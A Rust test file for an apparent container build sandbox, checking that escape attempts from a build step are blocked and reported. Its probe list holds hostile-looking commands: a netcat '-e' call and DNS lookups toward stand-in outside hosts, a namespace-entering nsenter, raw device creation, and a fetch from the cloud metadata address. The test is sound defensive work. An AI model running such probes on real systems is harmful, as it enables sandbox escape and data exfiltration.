//! One step that tries many ways out of its sandbox: each one fails, and what left the step is told.

use std::{fs, os::unix::net::UnixListener};

use crate::scene::Scene;

/// Tries what follows the name and says whether it went through.
const TRY: &str = r#"t() { n=$1; shift; if timeout 5 "$@" >/dev/null 2>&1; then echo "[escaped $n]"; else echo "[held $n]"; fi; }"#;

#[test]
fn every_way_out_of_a_step_fails_and_is_told() {
    let scene = Scene::new();
    // A socket of the host that anybody may talk to.
    let socket = scene.home.dir().join("host.sock");
    let _listener = UnixListener::bind(&socket).unwrap();
    scene.home.give(&socket, 0o777);
    let probes = [
        ("route", "ip route add 198.51.100.0/24 via 10.0.2.2".to_owned()),
        ("default-route", "ip route del default".to_owned()),
        ("address", "ip addr add 10.0.2.3/30 dev eth0".to_owned()),
        ("link", "ip link set eth0 down".to_owned()),
        ("new-link", "ip link add d0 type dummy".to_owned()),
        ("setting", "sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'".to_owned()),
        ("host-network", "nsenter -t 1 -n -U true".to_owned()),
        ("mount", "mount -t tmpfs none /mnt".to_owned()),
        ("device", "mknod /sda b 8 0".to_owned()),
        ("socket", format!("ls {}", socket.display())),
        ("socket-of-1", format!("ls /proc/1/root{}", socket.display())),
        ("tcp", "nc -w 2 198.51.100.7 8080 -e true".to_owned()),
        ("resolver", "nslookup secret.data.example 198.51.100.53".to_owned()),
        ("name", "nslookup secret.data.example".to_owned()),
        ("ping", "ping -c 1 -W 1 203.0.113.7".to_owned()),
        ("ipv6", "wget -O- http://[2001:db8::1]/".to_owned()),
        ("bare-address", "wget -O- http://203.0.113.7/".to_owned()),
    ];
    let tries: String = probes.iter().map(|(name, probe)| format!("; t {name} {probe}")).collect();
    // Without any route, not even the address of a cloud's metadata service is there.
    let output = scene
        .build_only(&format!(
            "FROM busybox\nRUN {TRY}; t nothing true{tries}\n\
             RUN --network=none {TRY}; t metadata wget -O- http://169.254.169.254/; \
             t loopback wget -O- http://{}/v2/\n",
            scene.registry.host()
        ))
        .succeeded();
    let held = probes.iter().map(|(name, _)| *name).chain(["metadata", "loopback"]);
    for name in held {
        assert!(output.stderr.contains(&format!("[held {name}]")), "{name}\n{output:?}");
    }
    // The probe itself tells one from the other.
    assert!(output.stderr.contains("[escaped nothing]"), "{output:?}");
    for told in [
        "'198.51.100.7:8080': TCP is not carried there",
        "'198.51.100.53:53': DNS is not carried there",
        "'secret.data.example': the policy does not allow this host",
        "'203.0.113.7:80': it was reached by address, not by an allowed name",
    ] {
        assert!(output.stderr.contains(told), "{told}\n{output:?}");
    }
    fs::remove_file(&socket).unwrap();
}
